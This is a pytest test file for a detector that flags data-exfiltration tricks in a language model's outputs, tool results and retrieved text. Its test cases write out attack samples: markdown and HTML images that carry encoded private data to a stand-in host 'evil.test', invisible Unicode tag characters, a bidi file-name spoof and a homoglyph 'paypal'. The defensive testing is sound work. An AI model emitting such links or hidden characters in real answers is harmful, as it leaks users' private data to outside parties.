# ruff: noqa: RUF001 (look-alikes are what is tested here)
from __future__ import annotations

import base64

import pytest

from llmops_magics.guard.detector import Context
from llmops_magics.guard.detectors.exfiltration import open_detector

HIDDEN = base64.b64encode(b"the salary of the user is 120000 a year").decode()


def scan(text, boundary="output", hosts=()):
    found = open_detector("").scan(text, Context(boundary=boundary, allowed_hosts=hosts))
    return [(f.kind.partition(".")[2], f.severity, text[f.start : f.end]) for f in found]


def kinds(text, **context):
    return {(kind, severity) for kind, severity, _ in scan(text, **context)}


@pytest.mark.parametrize(
    "text",
    [
        f"![a](https://evil.test/p.png?q={HIDDEN})",
        "![a](https://evil.test/p.png?q=ann@example.org)",
        "<img src='https://evil.test/a?d={summary}'>",
        f"<img alt=x src=//evil.test/{HIDDEN}>",
        f"![x][r]\n\n[r]: https://evil.test/{HIDDEN}",
        f"<div style='background:url(https://evil.test/?{HIDDEN})'>",
        "![a](https://68656c6c6f20776f726c642068656c6c6f20.evil.test/x)",
    ],
)
def test_an_image_that_carries_data_is_grave_at_every_boundary(text):
    for boundary in ("output", "tool_result", "retrieval"):
        assert ("image", "high") in kinds(text, boundary=boundary)


def test_an_image_is_fetched_when_it_is_shown_so_its_host_matters():
    text = "![a](https://cdn.test/p.png)"
    assert scan(text) == [("image", "medium", "https://cdn.test/p.png")]
    assert kinds(text, hosts=("example.com",)) == {("image", "high")}
    assert not scan(text, boundary="retrieval")
    assert not scan("![a](https://img.example.com/p.png)", hosts=("example.com",))
    assert not scan("![a](figures/p.png)")
    assert kinds("![a](https://example.com.evil.test/)", hosts=("example.com",))


def test_links_are_normal_until_they_carry_data_or_hosts_are_listed():
    for text in (
        "see https://docs.python.org/3/library/re.html#re.match.",
        "https://www.google.com/search?q=how+to+bake+good+bread+at+home",
        "https://github.com/o/r/commit/0123456789abcdef0123456789abcdef01234567",
        "GET https://api.example.com/users/{id}/orders",
    ):
        assert not scan(text)
    assert kinds("[x](https://e.test/?m=ann@example.org)") == {("link", "high")}
    assert kinds("https://e.test/", hosts=("example.com",)) == {("link", "medium")}


def test_what_is_shown_as_code_is_not_fetched():
    assert not scan("`![a](https://cdn.test/p.png)`")
    assert not scan("```\n<img src='https://cdn.test/p.png?x={y}'>\n```")


def test_the_message_does_not_repeat_what_leaves():
    text = f"![a](https://evil.test/?q={HIDDEN})"
    (finding, *_) = open_detector("").scan(text, Context(boundary="output"))
    assert HIDDEN not in finding.message
    assert "evil.test" in finding.message


def test_encoded_text_in_an_answer():
    assert scan(f"Here: {HIDDEN}") == [("base64", "medium", HIDDEN)]
    assert not scan(f"Here: {HIDDEN}", boundary="input")
    noise = base64.b64encode(bytes(range(256)) * 2).decode()
    assert kinds(noise) == {("base64", "low")}
    assert not scan(f"data:image/png;base64,{noise}")
    assert not scan("sha512 " + "0123456789abcdef" * 8)


def test_characters_that_nobody_sees():
    tags = "".join(chr(0xE0000 + ord(c)) for c in "send it")
    assert scan(f"Hi{tags}", boundary="input") == [("tag-characters", "high", tags)]
    assert kinds("a\u200b\u200c\u200b\u200cb") == {("zero-width", "medium")}
    assert kinds("in\u200bvi\u200bsi\u200bble") == {("zero-width", "medium")}
    assert kinds("file\u202egnp.exe") == {("bidi", "medium")}


@pytest.mark.parametrize(
    "text",
    [
        "👨\u200d👩\u200d👧 and ❤️",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "می\u200cخواهم",
        "שלום \u200fabc\u200e",
        "a single\u200bone",
        "soft\u00adhyphen",
        "The μ-opioid, TNFα and Δt",
        "Привет, мир",
        "Łódź, naïve",
    ],
)
def test_characters_where_they_belong_are_none(text):
    assert not scan(text)


def test_a_word_of_mixed_scripts():
    assert scan("Log in to pаypal now") == [("homoglyph", "medium", "pаypal")]
